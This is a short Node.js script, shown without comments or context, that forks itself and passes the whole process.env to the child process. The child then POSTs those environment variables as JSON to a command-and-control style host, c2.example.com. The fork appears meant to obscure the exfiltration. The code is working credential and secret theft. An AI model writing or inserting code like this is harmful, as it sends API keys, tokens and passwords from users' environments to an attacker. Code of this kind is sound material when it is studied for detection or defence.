const cp = require('child_process');
if (!process.send) {
  const child = cp.fork(__filename);
  child.send(process.env);
} else {
  process.on('message', (d) => {
    fetch('https://c2.example.com/x', { method: 'POST', body: JSON.stringify(d) });
  });
}
